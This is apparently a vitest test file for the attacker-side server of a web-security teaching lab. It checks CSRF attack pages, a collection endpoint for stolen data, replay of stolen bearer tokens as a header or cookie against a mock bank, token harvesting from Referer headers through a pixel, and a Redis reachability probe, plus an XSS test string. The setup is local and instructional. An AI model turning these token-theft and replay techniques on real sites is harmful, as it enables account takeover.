import { createServer, type Server } from 'node:http';
import { createServer as createTcpServer, type AddressInfo, type Server as TcpServer } from 'node:net';
import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import { createAttacker } from './app.ts';
import { createTap } from './tap/tap.ts';
import { runPage, stepsOf } from './runner.ts';

const student = 'A'.repeat(22);
const query = `?student=${student}`;
/** Headers of the requests that reached the bank. */
const received: Record<string, unknown>[] = [];
const servers: (Server | TcpServer)[] = [];
let site = '';
let nowMs = 0;

beforeAll(async () => {
  const bankPort = await listen(
    createServer((req, res) => {
      received.push(req.headers);
      res.end('{"user":"ada"}');
    }),
  );
  const redisPort = await listen(
    createTcpServer((socket) => void socket.end('-NOAUTH Authentication required.\r\n')),
  );
  const app = createAttacker({
    sites: {
      bank: 'http://localhost:9091',
      attacker: 'http://127.0.0.1:9090',
      neighbour: 'http://localhost:9090',
    },
    bankAddress: { hostname: '127.0.0.1', port: bankPort },
    bankTlsAddress: { hostname: '127.0.0.1', port: 9 },
    redisAddresses: [{ hostname: '127.0.0.1', port: redisPort }],
    tap: createTap({ hosts: ['127.0.0.1'], lines: [], now: () => 0 }),
    now: () => nowMs,
  });
  site = `http://127.0.0.1:${await listen(createServer(app))}`;
});
afterAll(() => servers.forEach((server) => server.close()));

async function listen(server: Server | TcpServer): Promise<number> {
  servers.push(server);
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
  const address: AddressInfo | string | null = server.address();
  if (address === null || typeof address === 'string') throw new Error('The server has no port.');
  return address.port;
}

const text = async (path: string): Promise<string> => (await fetch(site + path)).text();
const replay = (body: unknown): Promise<Response> =>
  fetch(`${site}/replay${query}`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify(body),
  });

it.each(['form', 'link', 'image', 'fetch', 'frame', 'login'])(
  'the page of the attack %s contains its own source, for the bank and the student',
  async (name) => {
    const page = await text(`/attack/${name}${query}`);
    expect(page).toContain('http://localhost:9091/v1/labs/bank/');
    expect(page).toContain(student);
    const [, source = ''] = /<pre>([^<]+)<\/pre>/.exec(page) ?? [];
    const attack = source.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&quot;', '"');
    expect(page).toContain(attack.replaceAll('&amp;', '&').trim());
    expect(page).not.toContain('{{');
  },
);

it.each([
  ['0', 'attacker', 'sign-in', '/?student=A&as=ada&carrier=lax&defence=token&back'],
  ['1', 'attacker', 'now', 'transfer?student=A&mark=lax.token.form&answer=none'],
  ['2', 'neighbour', 'now', 'transfer?student=A&mark=lax.token.port&answer=none'],
  ['3', 'attacker', 'sign-in', '/?student=A&as=ada&token=memory&defence=header-only&back'],
  ['4', 'attacker', 'now', 'sign-in?student=A&mark=header.header-only.login&answer=none'],
  ['5', 'attacker', 'end', 'me?student=A&mark=end&answer=none'],
] as const)('step %s of a run belongs to the origin of the %s', (at, origin, start, address) => {
  const plan = 'lax.token:form,port;header.header-only:login';
  const steps = stepsOf(plan) ?? [];
  const sites = { bank: 'http://bank', attacker: 'http://attacker', neighbour: 'http://neighbour' };
  const page = runPage(steps, { plan, at: Number(at), student: 'A', sites });
  expect(page.origin).toBe(`http://${origin}`);
  expect(page.html).toContain(`data-start="${start}"`);
  expect(page.html.replaceAll('&amp;', '&')).toContain(`${address}"`);
});

const runOf = (plan: string) => fetch(`${site}/run${query}&plan=${plan}&at=1`, { redirect: 'manual' });
it('a run redirects to the origin of its step, and refuses other plans', async () => {
  const answer = await runOf('lax.none:port');
  expect(answer.status).toBe(303);
  expect(answer.headers.get('location')).toMatch(/^http:\/\/localhost:9090\/run\?/);
  for (const wrong of ['', 'lax.none:', 'lax.none:nothing', 'lax:form', 'lax.none:form"', 'lax.none:form;'])
    expect((await runOf(encodeURIComponent(wrong))).status).toBe(400);
});

it('the page of a visit has an image, a frame and a link of the bank, and its own source', async () => {
  const page = await text(`/visit${query}`);
  for (const tag of ['<img', '<iframe', '<a id="link"']) expect(page).toContain(tag);
  expect(page.match(/"http:\/\/localhost:9091\/v1\/labs\/bank\/me\?student=A{22}/g)).toHaveLength(3);
  expect(page).toContain('&lt;iframe');
  expect(page).not.toContain('{{');
});

it('a page needs the id of a student, and takes nothing else into its HTML', async () => {
  for (const wrong of ['', '?student=', `?student=${encodeURIComponent('"><script>alert(1)</script>')}`])
    expect((await fetch(`${site}/prize${wrong}`)).status).toBe(400);
  expect((await fetch(`${site}/attack/nothing${query}`)).status).toBe(404);
});

it('shows what was collected to the same student only', async () => {
  await fetch(`${site}/collect${query}&data=one`, { headers: { origin: 'http://localhost:9091' } });
  await fetch(`${site}/collect${query}`, { method: 'POST', body: 'two' });
  await fetch(`${site}/pixel.gif${query}`);
  const { seen } = JSON.parse(await text(`/seen${query}`));
  expect(seen).toMatchObject([
    { kind: 'collect', text: 'one', origin: 'http://localhost:9091' },
    { kind: 'collect', text: 'two' },
    { kind: 'pixel', text: expect.stringMatching(/^new visitor [\w-]{11}$/) },
  ]);
  expect(await text(`/seen?student=${'B'.repeat(22)}`)).toBe('{"seen":[]}');
  expect((await fetch(`${site}/collect${query}`, { method: 'POST', body: 'x'.repeat(3000) })).status).toBe(
    400,
  );
});

it('uses a stolen token from its own server, in the header or in the cookie', async () => {
  const token = 'T'.repeat(86);
  expect(await (await replay({ token, as: 'header' })).json()).toEqual({
    status: 200,
    text: '{"user":"ada"}',
  });
  await replay({ token, as: 'cookie' });
  expect(received).toMatchObject([
    { authorization: `Bearer ${token}`, host: 'localhost:9091' },
    { cookie: `bank=${token}` },
  ]);
  for (const wrong of [{}, { token: 'a\r\nb' }, { token: 1 }, null])
    expect((await replay(wrong)).status).toBeGreaterThan(399);
  expect(received).toHaveLength(2);
});

const seen = async (): Promise<unknown> => {
  const body: unknown = JSON.parse(await text(`/seen${query}`));
  return Reflect.get(Object(body), 'seen');
};
const program = (to: string): Promise<Response> =>
  fetch(`${site}/program${query}&to=${encodeURIComponent(to)}`, { redirect: 'manual' });

it('the program uses a stolen token at once, for two minutes', async () => {
  await fetch(`${site}/forget${query}`, { method: 'POST' });
  const [token, later] = ['U'.repeat(86), 'V'.repeat(86)];
  const collect = (data: string) => fetch(`${site}/collect${query}&data=${data}`);
  await collect(token);
  expect(await seen()).toHaveLength(1);
  const answer = await program('/comments/?student=A&mark=publish');
  expect(answer.status).toBe(303);
  expect(answer.headers.get('location')).toBe('http://localhost:9091/comments/?student=A&mark=publish');
  await collect('no token');
  await collect(`Bearer ${token}`);
  await expect.poll(seen).toMatchObject([{}, {}, {}, { kind: 'replay', text: '200 {"user":"ada"}' }]);
  expect(received.at(-1)).toMatchObject({ authorization: `Bearer ${token}` });
  nowMs = 120_001;
  await collect(later);
  await replay({ token, as: 'header' });
  expect(received.filter(({ authorization }) => authorization === `Bearer ${later}`)).toEqual([]);
});

it('the program leads to a page with comments of the bank only', async () => {
  for (const wrong of [
    '',
    '/',
    '//other.example/',
    '/comments/',
    'http://other.example/comments/?a=b',
    '/comments/?a"',
  ])
    expect((await program(wrong)).status).toBe(400);
});

const load = (referer: string, mark: string) =>
  fetch(`${site}/pixel.gif${query}&mark=${mark}`, { headers: referer === '' ? {} : { referer } });

it('tries the token of a Referer at the bank, and repeats the Referer in its request', async () => {
  const token = 'R'.repeat(86);
  const before = received.length;
  const withToken = `http://localhost:9091/?student=${student}&access_token=${token}&leave`;
  await load(withToken, 'referer.unsafe-url');
  await vi.waitFor(() => expect(received).toHaveLength(before + 1));
  expect(received.at(-1)).toMatchObject({ referer: withToken, authorization: `Bearer ${token}` });
  await load('', 'referer.no-referrer');
  await vi.waitFor(() => expect(received).toHaveLength(before + 2));
  expect(received.at(-1)).not.toHaveProperty('referer');
  expect(received.at(-1)).not.toHaveProperty('authorization');
  // Without a valid mark, the pixel is only a pixel.
  for (const mark of ['', 'a b', 'x'.repeat(41)]) await load(withToken, encodeURIComponent(mark));
  expect(received).toHaveLength(before + 2);
});

it('tries to connect to Redis for the page of lab 14, which has the header', async () => {
  const tried = await fetch(`${site}/reach`, { method: 'POST', headers: { 'X-Lab-Student': student } });
  expect(await tried.json()).toEqual({
    attempts: [
      {
        address: expect.stringMatching(/^127\.0\.0\.1:\d+$/),
        connected: true,
        outcome: '-NOAUTH Authentication required.',
        ms: expect.any(Number),
      },
    ],
  });
  expect((await fetch(`${site}/reach`, { method: 'POST' })).status).toBe(400);
});
